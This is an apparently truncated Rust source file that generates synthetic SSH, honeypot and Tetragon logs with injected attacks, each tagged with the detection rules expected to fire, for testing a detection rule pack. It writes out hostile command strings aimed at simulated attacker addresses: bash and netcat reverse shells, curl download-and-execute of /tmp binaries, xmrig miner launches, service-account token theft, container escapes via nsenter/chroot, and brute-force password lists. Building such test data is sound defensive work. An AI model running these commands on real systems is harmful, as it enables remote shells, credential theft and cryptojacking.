//! The injected attacks. Each one is what the attacker really does, step by step, in
//! the source that sees it, with the benign-looking steps around the detectable one
//! (the connection and client banner before a honeypot login, the `id` after a reverse
//! shell), and lists the rules of the pack that must fire on it.

use crate::background::{cowrie_session, Sim, BOT_CREDENTIALS, HASSH, KUBECTL_UA, SSH_CLIENTS};
use crate::json::Obj;
use crate::source::k8s_audit::AuditEvent;
use crate::source::{auth_log, tetragon};
use crate::world::{Proc, K8S_SUFFIX};
use crate::{Attack, Format};

/// Ids of the rules in `rules/` the injected attacks are expected to trigger.
pub mod rules {
    /// `ssh/mr_ssh_brute_force.yml` (correlation).
    pub const SSH_BRUTE_FORCE: &str = "d8ce9685-5269-4de6-8c43-501e9c7a782e";
    /// `ssh/mr_ssh_password_spraying.yml` (correlation).
    pub const SSH_PASSWORD_SPRAY: &str = "68d5efd6-eb77-4d7d-b7be-d0479bfd9f20";
    /// `ssh/mr_ssh_success_after_failures.yml` (correlation).
    pub const SSH_SUCCESS_AFTER_FAILURES: &str = "b1ef2986-1925-451a-b23e-445b18396ae4";
    /// `linux/lnx_sudo_root_shell_or_sensitive_command.yml`.
    pub const SUDO_ROOT_SHELL: &str = "f1533c97-a919-43d1-8c37-2888e0654105";
    /// `linux/lnx_su_or_login_as_root.yml`.
    pub const SU_OR_LOGIN_AS_ROOT: &str = "ae65e296-08a5-4a19-a507-db8340c9633e";
    /// `container/net_connection_lnx_reverse_shell_from_container.yml`.
    pub const REVERSE_SHELL_FROM_CONTAINER: &str = "6898bb87-9a91-4373-8bfe-cd3c73ccb335";
    /// `linux/proc_creation_lnx_shell_spawned_by_tmp_binary.yml`.
    pub const SHELL_SPAWNED_BY_TMP_BINARY: &str = "540ec1c1-63df-4e59-881c-ab52599efd81";
    /// `linux/net_connection_lnx_tmp_binary_outbound.yml`.
    pub const TMP_BINARY_OUTBOUND: &str = "1f18351d-b9a7-4f9e-8e41-6abb3be65261";
    /// `linux/proc_creation_lnx_cryptominer_execution.yml`.
    pub const CRYPTOMINER_EXECUTION: &str = "b8fb85eb-7be7-4bf9-8d0d-82256a8dfab1";
    /// `container/proc_creation_lnx_container_escape_host_namespace.yml`.
    pub const CONTAINER_ESCAPE: &str = "a881d9d7-193c-4fe9-8a24-bb0400af26d9";
    /// `container/file_access_lnx_serviceaccount_token_read.yml`.
    pub const SA_TOKEN_READ: &str = "a1d5f0c6-609c-4c3c-93f9-426bd5edf53b";
    /// `linux/net_connection_lnx_port_scan.yml` (correlation).
    pub const PORT_SCAN: &str = "3902bf7c-3673-440f-9702-d9961b7331cb";
    /// `honeypot/cowrie_download_and_execute.yml`.
    pub const COWRIE_DOWNLOAD_EXECUTE: &str = "c48b63f6-ca04-438e-ba1c-5f2b5cfd43c3";
    /// `honeypot/cowrie_cryptominer_or_bot_payload.yml`.
    pub const COWRIE_CRYPTOMINER: &str = "0b867fec-e327-4b60-b644-a0b554b75558";
    /// `honeypot/cowrie_persistence_ssh_key_or_cron.yml`.
    pub const COWRIE_PERSISTENCE: &str = "7c86aab2-8ce9-40dd-9867-cf7dcd2ba914";
    /// `honeypot/cowrie_recon_commands.yml`.
    pub const COWRIE_RECON: &str = "aac5b565-688b-4bd2-a9d7-c38f012f33bc";
    /// `kubernetes/k8s_pod_exec_or_attach.yml`.
    pub const K8S_POD_EXEC: &str = "61f79631-e991-4650-b6e5-909c2063ef5f";
    /// `kubernetes/k8s_secret_read_by_unusual_serviceaccount.yml`.
    pub const K8S_SECRETS_READ: &str = "b58d621b-29c0-469d-a0fe-0c08dead0ec2";
    /// `kubernetes/k8s_privileged_or_host_namespace_pod.yml`.
    pub const K8S_PRIVILEGED_POD: &str = "41935f82-5e86-4c2b-a37a-935989ac79e3";
}

use rules::*;

/// One attack instance, before labelling.
pub(crate) struct Made {
    pub format: Format,
    pub actor: String,
    pub target: String,
    pub expected: Vec<&'static str>,
    pub records: Vec<(i64, String)>,
}

pub(crate) fn inject(attack: Attack, sim: &mut Sim, instance: u64, at: i64) -> Made {
    match attack {
        Attack::BruteForceSsh => brute_force_ssh(sim, instance, at),
        Attack::PasswordSpray => password_spray(sim, instance, at),
        Attack::SshSuccessAfterFailures => success_after_failures(sim, instance, at),
        Attack::SudoRootShell => sudo_root_shell(sim, instance, at),
        Attack::ReverseShell => reverse_shell(sim, instance, at),
        Attack::ShellFromTmp => shell_from_tmp(sim, instance, at),
        Attack::CryptoMiner => crypto_miner(sim, instance, at),
        Attack::ContainerEscape => container_escape(sim, instance, at),
        Attack::SaTokenTheft => sa_token_theft(sim, instance, at),
        Attack::PortScan => port_scan(sim, instance, at),
        Attack::HoneypotDownloadExec => honeypot_download_exec(sim, instance, at),
        Attack::HoneypotCryptominer => honeypot_cryptominer(sim, instance, at),
        Attack::HoneypotPersistence => honeypot_persistence(sim, instance, at),
        Attack::K8sExecIntoPod => k8s_exec_into_pod(sim, instance, at),
        Attack::K8sSecretsAccess => k8s_secrets_access(sim, instance, at),
        Attack::K8sPrivilegedPod => k8s_privileged_pod(sim, instance, at),
    }
}

// ---- SSH (auth.log and the honeypot) ----------------------------------------------

/// auth.log lines of one host.
struct AuthLines {
    host: String,
    records: Vec<(i64, String)>,
}

impl AuthLines {
    fn new(sim: &Sim, host: usize) -> Self {
        AuthLines { host: sim.world.hosts[host].name.clone(), records: Vec::new() }
    }

    fn push(&mut self, t: i64, program: &str, pid: Option<u32>, message: &str) {
        self.records.push((t, auth_log::line(t, &self.host, program, pid, message)));
    }
}

/// One sshd connection that fails `attempts` passwords for `user` (`valid`: an existing
/// account), as OpenSSH logs it. Returns the time after the connection closed.
#[allow(clippy::too_many_arguments)]
fn sshd_failures(
    sim: &mut Sim,
    lines: &mut AuthLines,
    host: usize,
    ip: &str,
    user: &str,
    valid: bool,
    attempts: i64,
    mut t: i64,
) -> i64 {
    let pid = Some(sim.world.hosts[host].take_pid(&mut sim.rng));
    let port = sim.ephemeral_port();
    let who = if valid { user.to_string() } else { format!("invalid user {user}") };
    if !valid {
        lines.push(t, "sshd", pid, &format!("Invalid user {user} from {ip} port {port}"));
        lines.push(t, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown");
    }
    lines.push(t, "sshd", pid, &auth_log::pam_auth_failure(ip, valid.then_some(user)));
    for _ in 0..attempts {
        t += sim.rng.range(1_500, 3_500);
        lines.push(t, "sshd", pid, &format!("Failed password for {who} from {ip} port {port} ssh2"));
    }
    if attempts >= 6 {
        lines.push(
            t,
            "sshd",
            pid,
            &format!("error: maximum authentication attempts exceeded for {who} from {ip} port {port} ssh2 [preauth]"),
        );
        lines.push(
            t,
            "sshd",
            pid,
            &format!(
                "Disconnecting {} {ip} port {port}: Too many authentication failures [preauth]",
                if valid { format!("authenticating user {user}") } else { who.clone() }
            ),
        );
    } else {
        let state = if valid { format!("authenticating user {user}") } else { who.clone() };
        lines.push(t, "sshd", pid, &format!("Connection closed by {state} {ip} port {port} [preauth]"));
    }
    if attempts > 1 {
        let rest = attempts - 1;
        let mut msg = format!(
            "PAM {rest} more authentication failure{}; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip} ",
            if rest > 1 { "s" } else { "" }
        );
        if valid {
            msg.push_str(&format!(" user={user}"));
        }
        lines.push(t, "sshd", pid, &msg);
    }
    t + sim.rng.range(400, 2_000)
}

/// A honeypot session that tries the given credentials (one login event each).
fn cowrie_attempts(
    sim: &mut Sim,
    ip: &str,
    creds: &[(&str, &str)],
    success: bool,
    t: i64,
) -> (Vec<(i64, String)>, i64) {
    let client = *sim.rng.pick(SSH_CLIENTS);
    let (hassh, algorithms) = *sim.rng.pick(HASSH);
    let gaps: Vec<i64> = (0..creds.len() + 3).map(|_| sim.rng.range(300, 2_200)).collect();
    let subs: Vec<u32> = (0..creds.len() + 4).map(|_| sim.rng.below(1_000_000) as u32).collect();
    let session = cowrie_session(sim, ip.to_string());
    let mut out = Vec::new();
    let mut at = t;
    out.push((at, session.connect(at, subs[0])));
    at += gaps[0];
    out.push((at, session.client_version(at, subs[1], client)));
    at += 2;
    out.push((at, session.client_kex(at, subs[2], hassh, algorithms)));
    for (i, (user, password)) in creds.iter().enumerate() {
        at += gaps[1 + i];
        let last = i + 1 == creds.len();
        out.push((at, session.login(at, subs[3 + i], user, password, success && last)));
    }
    if !success {
        at += gaps[creds.len() + 1];
        out.push((at, session.closed(at, subs[creds.len() + 3], at - t)));
    }
    (out, at)
}

const ROOT_PASSWORDS: &[&str] = &[
    "123456", "root", "password", "1qaz2wsx", "toor", "qwerty", "admin", "P@ssw0rd", "12345678", "root123", "abc123",
    "changeme",
];

fn brute_force_ssh(sim: &mut Sim, k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let attempts = sim.rng.range(12, 18);
    if k % 2 == 0 {
        let mut lines = AuthLines::new(sim, 0);
        let (mut done, mut at) = (0, t);
        while done < attempts {
            let n = sim.rng.range(3, 6).min(attempts - done);
            let (user, valid) =
                if sim.rng.chance(0.25) { (*sim.rng.pick(&["admin", "ubuntu"]), false) } else { ("root", true) };
            at = sshd_failures(sim, &mut lines, 0, &ip, user, valid, n, at);
            done += n;
        }
        let target = sim.world.hosts[0].name.clone();
        Made { format: Format::AuthLog, actor: ip, target, expected: vec![SSH_BRUTE_FORCE], records: lines.records }
    } else {
        let mut records = Vec::new();
        let mut at = t;
        for _ in 0..attempts {
            let user = if sim.rng.chance(0.8) { "root" } else { "admin" };
            let password = *sim.rng.pick(ROOT_PASSWORDS);
            let (mut session, end) = cowrie_attempts(sim, &ip, &[(user, password)], false, at);
            records.append(&mut session);
            at = end + sim.rng.range(1_500, 4_000);
        }
        let target = sim.world.sensor.name.clone();
        Made { format: Format::Cowrie, actor: ip, target, expected: vec![SSH_BRUTE_FORCE], records }
    }
}

const SPRAY_USERS: &[(&str, bool)] = &[
    ("oracle", false),
    ("postgres", false),
    ("test", false),
    ("git", false),
    ("jenkins", false),
    ("hadoop", false),
    ("ftpuser", false),
    ("support", false),
    ("user1", false),
    ("minecraft", false),
    ("alice", true),
    ("bob", true),
    ("deploy", true),
    ("ubuntu", true),
];

fn password_spray(sim: &mut Sim, k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let count = sim.rng.range(6, 8) as usize;
    let mut users: Vec<(&str, bool)> = Vec::new();
    while users.len() < count {
        let u = *sim.rng.pick(SPRAY_USERS);
        if !users.contains(&u) {
            users.push(u);
        }
    }
    let password = *sim.rng.pick(&["Spring2025!", "Welcome1", "Company123", "Passw0rd!", "Summer2025"]);
    let mut at = t;
    if k % 2 == 0 {
        let mut lines = AuthLines::new(sim, 0);
        for (user, valid) in users {
            sshd_failures(sim, &mut lines, 0, &ip, user, valid, 1, at);
            at += sim.rng.range(25_000, 40_000);
        }
        let target = sim.world.hosts[0].name.clone();
        Made { format: Format::AuthLog, actor: ip, target, expected: vec![SSH_PASSWORD_SPRAY], records: lines.records }
    } else {
        let mut records = Vec::new();
        for (user, _) in users {
            let (mut session, _) = cowrie_attempts(sim, &ip, &[(user, password)], false, at);
            records.append(&mut session);
            at += sim.rng.range(25_000, 40_000);
        }
        let target = sim.world.sensor.name.clone();
        Made { format: Format::Cowrie, actor: ip, target, expected: vec![SSH_PASSWORD_SPRAY], records }
    }
}

fn success_after_failures(sim: &mut Sim, k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let failures = sim.rng.range(5, 8);
    if k % 2 == 0 {
        // The weak password of the image's default account gives way.
        let mut lines = AuthLines::new(sim, 0);
        let (mut done, mut at) = (0, t);
        while done < failures {
            let n = sim.rng.range(1, 3).min(failures - done);
            at = sshd_failures(sim, &mut lines, 0, &ip, "ubuntu", true, n, at);
            done += n;
        }
        at += sim.rng.range(2_000, 20_000);
        let pid = Some(sim.world.hosts[0].take_pid(&mut sim.rng));
        let port = sim.ephemeral_port();
        let session = sim.world.hosts[0].next_session;
        sim.world.hosts[0].next_session += 1;
        let logind = Some(sim.world.hosts[0].logind_pid);
        lines.push(at, "sshd", pid, &format!("Accepted password for ubuntu from {ip} port {port} ssh2"));
        lines.push(at, "sshd", pid, "pam_unix(sshd:session): session opened for user ubuntu(uid=1000) by (uid=0)");
        lines.push(at, "systemd-logind", logind, &format!("New session {session} of user ubuntu."));
        let end = at + sim.rng.range(20_000, 90_000);
        lines.push(end, "sshd", pid, &format!("Received disconnect from {ip} port {port}:11: disconnected by user"));
        lines.push(end, "sshd", pid, &format!("Disconnected from user ubuntu {ip} port {port}"));
        lines.push(end, "sshd", pid, "pam_unix(sshd:session): session closed for user ubuntu");
        lines.push(
            end,
            "systemd-logind",
            logind,
            &format!("Session {session} logged out. Waiting for processes to exit."),
        );
        lines.push(end, "systemd-logind", logind, &format!("Removed session {session}."));
        let target = sim.world.hosts[0].name.clone();
        Made {
            format: Format::AuthLog,
            actor: ip,
            target,
            expected: vec![SSH_SUCCESS_AFTER_FAILURES],
            records: lines.records,
        }
    } else {
        let mut records = Vec::new();
        let mut at = t;
        for _ in 0..failures {
            let password = *sim.rng.pick(ROOT_PASSWORDS);
            let (mut session, end) = cowrie_attempts(sim, &ip, &[("root", password)], false, at);
            records.append(&mut session);
            at = end + sim.rng.range(1_000, 5_000);
        }
        // Cowrie's default userdb lets root in with most passwords.
        let (mut session, end) = cowrie_attempts(sim, &ip, &[("root", "P@ssw0rd2025")], true, at);
        records.append(&mut session);
        let closing = end + sim.rng.range(500, 3_000);
        let last = records.last().map(|(_, l)| l.clone()).unwrap_or_default();
        let session_id = serde_json::from_str::<serde_json::Value>(&last)
            .ok()
            .and_then(|v| v["session"].as_str().map(str::to_string))
            .unwrap_or_default();
        let s = crate::source::cowrie::Session {
            sensor: &sim.world.sensor,
            src_ip: ip.clone(),
            src_port: 0,
            id: session_id,
        };
        records.push((closing, s.closed(closing, 4_000, closing - end)));
        let target = sim.world.sensor.name.clone();
        Made { format: Format::Cowrie, actor: ip, target, expected: vec![SSH_SUCCESS_AFTER_FAILURES], records }
    }
}

fn sudo_root_shell(sim: &mut Sim, k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let host = (k as usize) % sim.world.hosts.len();
    let mut lines = AuthLines::new(sim, host);
    let pid = Some(sim.world.hosts[host].take_pid(&mut sim.rng));
    let port = sim.ephemeral_port();
    let stolen_key = format!(
        "ED25519 SHA256:{}",
        sim.rng.chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 43)
    );
    let session = sim.world.hosts[host].next_session;
    sim.world.hosts[host].next_session += 1;
    let logind = Some(sim.world.hosts[host].logind_pid);
    let uid = sim.world.admins[3].uid;
    lines.push(t, "sshd", pid, &format!("Accepted publickey for deploy from {ip} port {port} ssh2: {stolen_key}"));
    lines.push(
        t,
        "sshd",
        pid,
        &format!("pam_unix(sshd:session): session opened for user deploy(uid={uid}) by (uid=0)"),
    );
    lines.push(t, "systemd-logind", logind, &format!("New session {session} of user deploy."));
    let at = t + sim.rng.range(5_000, 30_000);
    let tty = format!("pts/{}", sim.rng.below(3));
    let mut expected = vec![SUDO_ROOT_SHELL];
    let command = match k % 4 {
        0 => "/bin/bash",
        1 => "/usr/bin/su -",
        2 => "/usr/bin/cat /etc/shadow",
        _ => "/usr/bin/tee -a /root/.ssh/authorized_keys",
    };
    lines.push(at, "sudo", None, &auth_log::sudo_command("deploy", &tty, "/home/deploy", "root", command));
    lines.push(
        at,
        "sudo",
        None,
        &format!("pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid={uid})"),
    );
    if k % 4 == 1 {
        let su_pid = Some(sim.world.hosts[host].take_pid(&mut sim.rng));
        lines.push(at, "su", su_pid, &format!("(to root) deploy on {tty}"));
        lines.push(at, "su", su_pid, "pam_unix(su-l:session): session opened for user root(uid=0) by deploy(uid=0)");
        expected.push(SU_OR_LOGIN_AS_ROOT);
    }
    let end = at + sim.rng.range(30_000, 200_000);
    if k % 4 == 1 {
        lines.push(end - 1_000, "su", None, "pam_unix(su-l:session): session closed for user root");
    }
    lines.push(end - 500, "sudo", None, "pam_unix(sudo:session): session closed for user root");
    lines.push(end, "sshd", pid, &format!("Received disconnect from {ip} port {port}:11: disconnected by user"));
    lines.push(end, "sshd", pid, &format!("Disconnected from user deploy {ip} port {port}"));
    lines.push(end, "sshd", pid, "pam_unix(sshd:session): session closed for user deploy");
    lines.push(end, "systemd-logind", logind, &format!("Session {session} logged out. Waiting for processes to exit."));
    let target = sim.world.hosts[host].name.clone();
    Made { format: Format::AuthLog, actor: ip, target, expected, records: lines.records }
}

// ---- Tetragon ---------------------------------------------------------------------

/// A program and its arguments.
type Command<'a> = (&'a str, Option<&'a str>);

/// Tetragon records of one attack, with helpers for the usual exec / exit pairs.
struct Tetra {
    records: Vec<(i64, String)>,
}

impl Tetra {
    fn exec(&mut self, sim: &Sim, p: &Proc, parent: &Proc) {
        self.records.push((p.start_ms, tetragon::exec(&sim.world, p, parent)));
    }

    fn exit(&mut self, sim: &Sim, p: &Proc, parent: &Proc, ms: i64, status: i64) {
        self.records.push((ms, tetragon::exit(&sim.world, p, parent, ms, status)));
    }

    /// `binary arguments` run by `parent`, finishing after a few ms; returns its exit time.
    fn run(&mut self, sim: &mut Sim, parent: &Proc, binary: &str, arguments: Option<&str>, at: i64) -> i64 {
        let (uid, cwd) = (parent.uid, parent.cwd.clone());
        let p = sim.spawn(parent, binary, arguments, uid, &cwd, at);
        let done = at + sim.rng.range(2, 60);
        self.exec(sim, &p, parent);
        self.exit(sim, &p, parent, done, 0);
        done
    }

    fn connect(&mut self, sim: &mut Sim, p: &Proc, parent: &Proc, daddr: &str, dport: u16, at: i64) {
        let saddr = p.pod.map(|i| sim.world.pods[i].ip.clone()).unwrap_or_else(|| sim.world.hosts[p.host].ip.clone());
        let (sport, cookie) = (sim.ephemeral_port(), sim.cookie());
        self.records.push((at, tetragon::tcp_connect(&sim.world, p, parent, &saddr, sport, daddr, dport, at, cookie)));
    }
}

/// The exposed pod the `k`-th instance (shifted by `offset`) compromises, with its
/// main process and that process's parent.
fn victim(sim: &Sim, k: u64, offset: u64) -> (usize, Proc, Proc, String) {
    let exposed = sim.world.exposed_pods();
    let pod = exposed[((k + offset) % exposed.len() as u64) as usize];
    let p = &sim.world.pods[pod];
    (pod, p.main.clone(), p.shim.clone(), format!("{}/{}", p.workload.namespace, p.name))
}

fn reverse_shell(sim: &mut Sim, k: u64, t: i64) -> Made {
    let (_, main, _, target) = victim(sim, k, 0);
    let c2 = sim.attacker_ip();
    let port = *sim.rng.pick(&[4444u16, 443, 9001, 1337, 8443]);
    let mut tt = Tetra { records: Vec::new() };
    let (uid, cwd) = (main.uid, main.cwd.clone());
    // The process whose commands the attacker types.
    let (interactive, interactive_parent, launcher) = if k % 2 == 0 {
        let bash_args = format!("-c \"bash -i >& /dev/tcp/{c2}/{port} 0>&1\"");
        let bash = sim.spawn(&main, "/bin/bash", Some(&bash_args), uid, &cwd, t);
        tt.exec(sim, &bash, &main);
        let at = t + sim.rng.range(1, 4);
        tt.connect(sim, &bash, &main, &c2, port, at);
        (bash.clone(), main.clone(), bash)
    } else {
        let sh_args = format!("-c \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {c2} {port} >/tmp/f\"");
        let sh = sim.spawn(&main, "/bin/sh", Some(&sh_args), uid, &cwd, t);
        tt.exec(sim, &sh, &main);
        tt.run(sim, &sh, "/bin/rm", Some("/tmp/f"), t + 1);
        tt.run(sim, &sh, "/usr/bin/mkfifo", Some("/tmp/f"), t + 3);
        let cat = sim.spawn(&sh, "/bin/cat", Some("/tmp/f"), uid, &cwd, t + 5);
        tt.exec(sim, &cat, &sh);
        let shell = sim.spawn(&sh, "/bin/sh", Some("-i"), uid, &cwd, t + 5);
        tt.exec(sim, &shell, &sh);
        let nc_args = format!("{c2} {port}");
        let nc = sim.spawn(&sh, "/usr/bin/nc", Some(&nc_args), uid, &cwd, t + 6);
        tt.exec(sim, &nc, &sh);
        tt.connect(sim, &nc, &sh, &c2, port, t + 8);
        (shell, sh.clone(), sh)
    };
    let commands: &[Command] = &[
        ("/usr/bin/id", None),
        ("/bin/uname", Some("-a")),
        ("/bin/ls", Some("-la")),
        ("/bin/cat", Some("/etc/passwd")),
        ("/usr/bin/env", None),
        ("/bin/ps", Some("aux")),
        ("/bin/hostname", None),
    ];
    let mut at = t + sim.rng.range(2_000, 6_000);
    for _ in 0..sim.rng.range(3, 5) {
        let (binary, arguments) = *sim.rng.pick(commands);
        tt.run(sim, &interactive, binary, arguments, at);
        at += sim.rng.range(2_000, 15_000);
    }
    let end = at + sim.rng.range(5_000, 60_000);
    if interactive.exec_id != launcher.exec_id {
        tt.exit(sim, &interactive, &interactive_parent, end, 0);
    }
    tt.exit(sim, &launcher, &main, end + 2, 0);
    Made {
        format: Format::Tetragon,
        actor: c2,
        target,
        expected: vec![REVERSE_SHELL_FROM_CONTAINER],
        records: tt.records,
    }
}

fn shell_from_tmp(sim: &mut Sim, k: u64, t: i64) -> Made {
    let (_, main, _, target) = victim(sim, k, 1);
    let c2 = sim.attacker_ip();
    let path = ["/tmp/.ICE-unix/.x/agent", "/dev/shm/.kworker", "/var/tmp/.cache/updater"][(k % 3) as usize];
    let mut tt = Tetra { records: Vec::new() };
    let (uid, cwd) = (main.uid, main.cwd.clone());
    let url = format!("http://{c2}:8080/a");
    let sh_args = format!("-c \"curl -fsSL {url} -o {path} && chmod +x {path} && {path} -url https://{c2}:443/ &\"");
    let sh = sim.spawn(&main, "/bin/sh", Some(&sh_args), uid, &cwd, t);
    tt.exec(sim, &sh, &main);
    let curl_args = format!("-fsSL {url} -o {path}");
    let curl = sim.spawn(&sh, "/usr/bin/curl", Some(&curl_args), uid, &cwd, t + 2);
    tt.exec(sim, &curl, &sh);
    tt.connect(sim, &curl, &sh, &c2, 8080, t + 9);
    let fetched = t + sim.rng.range(300, 1_500);
    tt.exit(sim, &curl, &sh, fetched, 0);
    let chmod_args = format!("+x {path}");
    let chmodded = tt.run(sim, &sh, "/bin/chmod", Some(&chmod_args), fetched + 2);
    let agent_args = format!("-url https://{c2}:443/");
    let agent = sim.spawn(&sh, path, Some(&agent_args), uid, &cwd, chmodded + 2);
    tt.exec(sim, &agent, &sh);
    tt.exit(sim, &sh, &main, chmodded + 4, 0);
    tt.connect(sim, &agent, &sh, &c2, 443, chmodded + 30);
    let mut at = chmodded + sim.rng.range(10_000, 30_000);
    let tasks: [(&str, &[Command]); 2] = [
        (
            "-c \"id; uname -a; cat /etc/os-release\"",
            &[("/usr/bin/id", None), ("/bin/uname", Some("-a")), ("/bin/cat", Some("/etc/os-release"))],
        ),
        ("-c \"tar czf /tmp/.d.tgz /app /etc 2>/dev/null\"", &[("/bin/tar", Some("czf /tmp/.d.tgz /app /etc"))]),
    ];
    for (task, children) in tasks {
        let task_sh = sim.spawn(&agent, "/bin/sh", Some(task), uid, &cwd, at);
        tt.exec(sim, &task_sh, &agent);
        let mut child_at = at + 3;
        for (binary, arguments) in children {
            child_at = tt.run(sim, &task_sh, binary, *arguments, child_at) + 1;
        }
        tt.exit(sim, &task_sh, &agent, child_at + 2, 0);
        at += sim.rng.range(15_000, 40_000);
    }
    Made {
        format: Format::Tetragon,
        actor: c2,
        target,
        expected: vec![SHELL_SPAWNED_BY_TMP_BINARY, TMP_BINARY_OUTBOUND],
        records: tt.records,
    }
}

fn crypto_miner(sim: &mut Sim, k: u64, t: i64) -> Made {
    let (_, main, _, target) = victim(sim, k, 2);
    let host_ip = sim.attacker_ip();
    let wallet = format!("4{}", sim.rng.chars("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 94));
    let (path, arguments, pool_port): (&str, Option<String>, u16) = match k % 3 {
        0 => (
            "/tmp/.xm/xmrig",
            Some(format!("-o pool.supportxmr.com:443 -u {wallet} -k --tls -p k8s --donate-level 1")),
            443,
        ),
        1 => ("/tmp/kdevtmpfsi", None, 443),
        _ => (
            "/var/tmp/.systemd-helper",
            Some(format!("-a rx/0 -o stratum+tcp://xmr.2miners.com:2222 -u {wallet}.w{k} -p x -B")),
            2222,
        ),
    };
    let name = path.rsplit('/').next().unwrap_or("m");
    let mut tt = Tetra { records: Vec::new() };
    let (uid, cwd) = (main.uid, main.cwd.clone());
    let run = match &arguments {
        Some(a) => format!("{path} {a}"),
        None => path.to_string(),
    };
    let sh_args =
        format!("-c \"curl -s http://{host_ip}/{name} -o {path}; chmod +x {path}; nohup {run} >/dev/null 2>&1 &\"");
    let sh = sim.spawn(&main, "/bin/sh", Some(&sh_args), uid, &cwd, t);
    tt.exec(sim, &sh, &main);
    let curl_args = format!("-s http://{host_ip}/{name} -o {path}");
    let curl = sim.spawn(&sh, "/usr/bin/curl", Some(&curl_args), uid, &cwd, t + 2);
    tt.exec(sim, &curl, &sh);
    tt.connect(sim, &curl, &sh, &host_ip, 80, t + 8);
    let fetched = t + sim.rng.range(800, 4_000);
    tt.exit(sim, &curl, &sh, fetched, 0);
    let chmod_args = format!("+x {path}");
    let chmodded = tt.run(sim, &sh, "/bin/chmod", Some(&chmod_args), fetched + 2);
    let miner = sim.spawn(&sh, path, arguments.as_deref(), uid, &cwd, chmodded + 3);
    tt.exec(sim, &miner, &sh);
    tt.exit(sim, &sh, &main, chmodded + 5, 0);
    let pool = sim.attacker_ip();
    let connect_at = chmodded + sim.rng.range(200, 1_500);
    tt.connect(sim, &miner, &sh, &pool, pool_port, connect_at);
    Made {
        format: Format::Tetragon,
        actor: host_ip,
        target,
        expected: vec![CRYPTOMINER_EXECUTION, TMP_BINARY_OUTBOUND],
        records: tt.records,
    }
}

fn container_escape(sim: &mut Sim, k: u64, t: i64) -> Made {
    let host = (k as usize) % sim.world.hosts.len();
    let name = format!("node-debugger-{}", sim.rng.chars(K8S_SUFFIX, 5));
    let created = t - sim.rng.range(10_000, 60_000);
    let pod = sim.world.attacker_pod(&mut sim.rng, name.clone(), host, created);
    let shim = sim.world.pods[pod].shim.clone();
    let mut tt = Tetra { records: Vec::new() };
    // `kubectl exec -it node-debugger-… -- /bin/sh`
    let sh = sim.spawn_in(Some(pod), &shim, "/bin/sh", None, 0, "/", t);
    tt.exec(sim, &sh, &shim);
    let at = t + sim.rng.range(3_000, 12_000);
    let (escape, escape_args) = if k % 2 == 0 {
        ("/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- /bin/bash")
    } else {
        ("/usr/sbin/chroot", "/host /bin/bash")
    };
    let escaper = sim.spawn(&sh, escape, Some(escape_args), 0, "/", at);
    tt.exec(sim, &escaper, &sh);
    let bash = sim.spawn(&escaper, "/bin/bash", None, 0, "/", at + 4);
    tt.exec(sim, &bash, &escaper);
    let mut cmd_at = at + sim.rng.range(2_000, 8_000);
    for (binary, arguments) in [
        ("/usr/bin/id", None),
        ("/usr/bin/crictl", Some("ps")),
        ("/bin/cat", Some("/etc/kubernetes/kubelet.conf")),
        ("/bin/ls", Some("/var/lib/kubelet/pods")),
    ] {
        tt.run(sim, &bash, binary, arguments, cmd_at);
        cmd_at += sim.rng.range(2_000, 10_000);
    }
    tt.exit(sim, &bash, &escaper, cmd_at + 1_000, 0);
    tt.exit(sim, &escaper, &sh, cmd_at + 1_001, 0);
    Made {
        format: Format::Tetragon,
        actor: format!("default/{name}"),
        target: sim.world.hosts[host].name.clone(),
        expected: vec![CONTAINER_ESCAPE],
        records: tt.records,
    }
}

fn sa_token_theft(sim: &mut Sim, k: u64, t: i64) -> Made {
    let (pod, main, _, target) = victim(sim, k, 3);
    let namespace = sim.world.pods[pod].workload.namespace;
    let mut tt = Tetra { records: Vec::new() };
    let (uid, cwd) = (main.uid, main.cwd.clone());
    const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let api = format!("https://kubernetes.default.svc/api/v1/namespaces/{namespace}/secrets");
    let sh_args = format!("-c \"TOKEN=$(cat {TOKEN}); curl -sk -H \\\"Authorization: Bearer $TOKEN\\\" {api}\"");
    let sh = sim.spawn(&main, "/bin/sh", Some(&sh_args), uid, &cwd, t);
    tt.exec(sim, &sh, &main);
    let cat = sim.spawn(&sh, "/bin/cat", Some(TOKEN), uid, &cwd, t + 2);
    tt.exec(sim, &cat, &sh);
    // The token file is a link into the projected volume's timestamped directory.
    let started = crate::clock::rfc3339_seconds(sim.world.pods[pod].started_ms);
    let stamp = started.trim_end_matches('Z').replace(['-', ':'], "_").replace('T', "_");
    let resolved = format!(
        "/run/secrets/kubernetes.io/serviceaccount/..{stamp}.{}/token",
        sim.rng.range(1_000_000_000, 3_999_999_999)
    );
    tt.records.push((t + 3, tetragon::file_read(&sim.world, &cat, &sh, &resolved, t + 3)));
    tt.exit(sim, &cat, &sh, t + 4, 0);
    let jwt = format!(
        "eyJhbGciOiJSUzI1NiIsImtpZCI6I{}",
        sim.rng.chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-", 40)
    );
    let curl_args = format!("-sk -H \"Authorization: Bearer {jwt}...\" {api}");
    let curl = sim.spawn(&sh, "/usr/bin/curl", Some(&curl_args), uid, &cwd, t + 6);
    tt.exec(sim, &curl, &sh);
    tt.connect(sim, &curl, &sh, "10.96.0.1", 443, t + 12);
    tt.exit(sim, &curl, &sh, t + 80, 0);
    tt.exit(sim, &sh, &main, t + 81, 0);
    Made {
        format: Format::Tetragon,
        actor: format!("system:serviceaccount:{namespace}:{}", sim.world.pods[pod].workload.service_account),
        target,
        expected: vec![SA_TOKEN_READ],
        records: tt.records,
    }
}

/// nmap's most common TCP ports, most common first.
const TOP_PORTS: &[u16] = &[
    80, 23, 443, 21, 22, 25, 3389, 110, 445, 139, 143, 53, 135, 3306, 8080, 1723, 111, 995, 993, 5900, 1025, 587, 8888,
